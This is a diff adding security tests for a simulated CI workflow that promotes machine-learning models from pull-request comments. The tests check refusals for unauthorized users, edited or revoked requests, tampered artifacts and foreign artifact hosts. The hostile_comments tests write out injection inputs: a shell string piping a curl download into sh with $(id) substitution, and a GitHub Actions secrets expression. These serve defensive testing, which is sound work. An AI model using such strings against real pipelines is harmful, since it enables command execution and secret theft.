@@ -1,0 +1,289 @@
+"""Scenarios of requests, verdicts, and of what is promoted."""
+
+import json
+import zipfile
+from collections.abc import Callable
+from dataclasses import replace
+from hashlib import sha256
+
+from lynx_pipeline_tests.simulators.actions.job import Hooks
+from lynx_pipeline_tests.simulators.actions.scenario import (
+    Seen,
+    V,
+    assert_promoted,
+    bot_comment,
+    latest_artifacts,
+    message,
+    refused,
+    result,
+    stop_before,
+    unchanged,
+)
+from lynx_pipeline_tests.simulators.actions.stage import Stage, request_text
+
+# ----- the two verdicts -----------------------------------------------------------------------
+
+
+def clean(stage: Stage) -> list[Seen]:
+    """A good candidate is promoted, tagged, and reported in the pull request and the channel."""
+    stage.clear()
+    run = stage.runner(stage.comment(request_text(stage.good, V))).run()
+    assert {job.result for job in run.jobs.values()} == {"success"}, result(run)
+    assert_promoted(stage)
+    assert bot_comment(stage).startswith(f"### Promoted `{V}`")
+    assert run.jobs["report"].summary.startswith(f"### Promoted `{V}`")
+    (notification,) = stage.channel.got
+    assert notification["title"] == f"grammar-tutor: promoted {V} in prod"
+    assert run.jobs["evaluate"].token not in run.jobs["evaluate"].log
+    return [Seen("a clean candidate", result(run), notification["title"], f"+ {V}, with its tag")]
+
+
+def regressed(stage: Stage) -> list[Seen]:
+    """A regressed candidate fails the run, and the comment shows the bucket table."""
+    stage.clear()
+    comment = stage.comment(request_text(stage.bad, V))
+    with unchanged(stage):
+        run = stage.runner(comment).run()
+    assert result(run) == "evaluate: exit code 1"
+    assert run.jobs["promote"].result == "skipped"
+    text = bot_comment(stage)
+    assert text.startswith(f"### Refused `{V}`: it failed the gate")
+    assert "| tense.past&#95;simple |" in text
+    assert run.jobs["report"].summary.strip() == text
+    return [Seen("a regressed candidate", result(run), message(run), "as before")]
+
+
+def label(stage: Stage) -> list[Seen]:
+    """The label starts the same run as the comment; a different label starts none."""
+    stage.clear()
+    comment = stage.comment(request_text(stage.good, V))
+    with unchanged(stage):
+        other = stage.labelled("documentation").run()
+        run = stage.labelled(hooks=stop_before("evaluate")).run()
+    assert result(other) == "no run"
+    assert run.jobs["request"].outputs["comment"] == str(comment.id)
+    return [Seen("a different label", result(other), "", "as before")]
+
+
+# ----- requests -------------------------------------------------------------------------------
+
+
+def hostile_comments(stage: Stage) -> list[Seen]:
+    """Comments that a shell, an expression or a lenient parser would misread."""
+    good = request_text(stage.good, V)
+    return [
+        _rejected_comment(
+            stage, "quotes and $()", f"\"; curl x | sh #$(id)`id`' {good}", "can't be read"
+        ),
+        _rejected_comment(
+            stage, "an expression", good + "${{ secrets.APPRISE_URLS }}", "can't be read"
+        ),
+        _rejected_comment(
+            stage, "newlines", f"mlflow_run_id={stage.good}\nsemver={V}", "contains 2 requests"
+        ),
+        _rejected_comment(stage, "two requests", f"{good}\n{good}", "contains 2 requests"),
+        _rejected_comment(
+            stage, "a look-alike", good.replace("semver", "\u0455emver"), "can't be read"
+        ),
+        _rejected_comment(stage, "60 kB", "a" * 60_000 + good, "can't be read"),
+    ]
+
+
+def _rejected_comment(stage: Stage, what: str, text: str, says: str) -> Seen:
+    stage.clear()
+    comment = stage.comment(text)
+    with unchanged(stage):
+        run = stage.runner(comment).run()
+    assert result(run) == "request: exit code 2", run.jobs["request"].log
+    assert says in message(run)
+    assert run.jobs["evaluate"].result == "skipped"
+    assert "semver&#61;v1.2.3" in bot_comment(stage) or "semver=v1.2.3" in bot_comment(stage)
+    return Seen(f"hostile comment: {what}", result(run), message(run), "as before")
+
+
+def strangers(stage: Stage) -> list[Seen]:
+    """Unauthorized users are refused and can't make the bot comment; other comments do nothing."""
+    found = []
+    for what, author, says in (
+        ("an author not in CODEOWNERS", "mallory", "mallory is not an owner of"),
+        ("an owner without write access", "reader", "reader cannot write to this repository"),
+    ):
+        stage.clear()
+        comment = stage.comment(request_text(stage.good, V), author)
+        with unchanged(stage):
+            run = stage.runner(comment).run()
+        assert result(run) == "request: exit code 1"
+        assert says in message(run)
+        assert bot_comment(stage) == ""
+        found.append(Seen(what, result(run), message(run), "as before"))
+    stage.clear()
+    old = stage.runner(stage.comment(request_text(stage.good, V)))
+    for what, user, again in (
+        (
+            "an old request, and a different user sets the label",
+            "reader",
+            stage.labelled(by="reader"),
+        ),
+        ("an old run that a different user re-runs", "hubot", replace(old, again_by="hubot")),
+    ):
+        with unchanged(stage):
+            run = again.run()
+        assert result(run) == "request: exit code 1"
+        assert f"octocat requested the release, but {user} triggered this run: {user}" in message(
+            run
+        )
+        assert bot_comment(stage) == ""
+        found.append(Seen(what, result(run), message(run), "as before"))
+    stage.clear()
+    with unchanged(stage):
+        run = stage.runner(stage.comment("LGTM")).run()
+        stage.pull.labels.clear()
+        unlabelled = stage.runner(stage.comment(request_text(stage.good, V))).run()
+    assert result(run) == result(unlabelled) == "no run"
+    return [*found, Seen("an unrelated comment, or no label", result(run), "", "as before")]
+
+
+def edited(stage: Stage) -> list[Seen]:
+    """An edited comment is refused, at the start and before the promotion, even if the edit was
+    within the same second."""
+
+    def edit() -> None:
+        comment = stage.github.comments[0]
+        comment.edit(comment.body)
+
+    stage.clear()
+    comment = stage.comment("LGTM")
+    comment.edit(request_text(stage.good, V), at=comment.created_at)
+    with unchanged(stage):
+        run = stage.labelled().run()
+    assert result(run) == "request: exit code 1"
+    assert "edited after it was written" in message(run)
+    first = Seen("a comment edited immediately", result(run), message(run), "as before")
+    later = refused(
+        stage, "a comment edited during the run", edit, 1, "edited after it was written"
+    )
+    return [first, later]
+
+
+def taken_back(stage: Stage) -> list[Seen]:
+    """The label, the request or the author's access is revoked before the promotion."""
+    lost = stage.github.collaborators
+    try:
+        return [
+            refused(
+                stage,
+                "the label removed during the run",
+                lambda: stage.pull.labels.clear(),
+                1,
+                "has no label 'deploy-candidate'",
+            ),
+            refused(
+                stage,
+                "a newer request during the run",
+                lambda: stage.comment(request_text(stage.bad, "v0.2.0")),
+                1,
+                "a newer request has its own run",
+            ),
+            refused(
+                stage,
+                "an author who loses write access during the run",
+                lambda: lost.update(octocat="read"),
+                1,
+                "octocat cannot write to this repository",
+            ),
+        ]
+    finally:
+        lost["octocat"] = "admin"
+
+
+# ----- what is promoted -----------------------------------------------------------------------
+
+
+def tampered(stage: Stage) -> list[Seen]:
+    """Candidate or evidence are replaced in transit, with and without GitHub's own digest."""
+
+    def change(member: str, digest: bool, artifact: str = "evidence") -> Callable[[], None]:
+        def act() -> None:
+            archive = latest_artifacts(stage) / f"{artifact}.zip"
+            with zipfile.ZipFile(archive) as old:
+                kept = {name: old.read(name) for name in old.namelist()}
+            kept[member] = kept[member].replace(b'"correct": 1134', b'"correct": 1200') + b"\n"
+            with zipfile.ZipFile(archive, "w") as new:
+                for name, raw in kept.items():
+                    new.writestr(name, raw)
+            if digest:
+                about = archive.with_suffix(".json")
+                values = json.loads(about.read_text())
+                values["digest"] = sha256(archive.read_bytes()).hexdigest()
+                about.write_text(json.dumps(values))
+
+        return act
+
+    stage.clear()
+    hooks = Hooks(before={"evaluate": change("bundle/MLmodel", True, "candidate")})
+    with unchanged(stage):
+        run = stage.runner(stage.comment(request_text(stage.good, V)), hooks).run()
+    assert result(run) == "evaluate: exit code 2", run.jobs["evaluate"].log
+    assert "the candidate changed in transit: 'MLmodel' was changed" in message(run)
+    assert "the candidate changed in transit" in bot_comment(stage)
+    return [
+        Seen("the candidate replaced, with its digest", result(run), message(run), "as before"),
+        refused(
+            stage,
+            "the evidence changed in transit",
+            change("candidate_eval.json", False),
+            1,
+            "digest validation failed",
+        ),
+        refused(
+            stage,
+            "the evaluation replaced, with its digest",
+            change("candidate_eval.json", True),
+            2,
+            "it changed in transit",
+        ),
+        refused(
+            stage,
+            "the predictions replaced, with their digest",
+            change("predictions.parquet", True),
+            2,
+            "its SHA-256 differs",
+        ),
+    ]
+
+
+def relogged(stage: Stage) -> list[Seen]:
+    """After the evaluation, a different model is logged under the same run, or the requested alias
+    is moved to a different model."""
+    try:
+        return [
+            refused(
+                stage,
+                "the requested alias moved during the run",
+                lambda: stage.move_alias(stage.bad),
+                1,
+                "If an alias was moved, request it again",
+            ),
+            refused(
+                stage,
+                "the candidate logged again during the run",
+                lambda: stage.relog(stage.good),
+                2,
+                "has changed since its evaluation",
+            ),
+        ]
+    finally:
+        stage.unlog()
+        stage.move_alias(stage.good)
+
+
+def elsewhere(stage: Stage) -> list[Seen]:
+    """A run's artifacts are on a foreign host, to which MLflow's token is not sent."""
+    stage.clear()
+    comment = stage.comment(request_text(stage.log_elsewhere(), V))
+    runner = stage.runner(comment)
+    with unchanged(stage):
+        run = replace(runner, secrets={"MLFLOW_TRACKING_TOKEN": "precious"}).run()
+    assert result(run) == "request: exit code 1", run.jobs["request"].log
+    assert "neither its own artifact service nor in 'artifact_locations'" in message(run)
+    return [Seen("artifacts on a foreign host", result(run), message(run), "as before")]
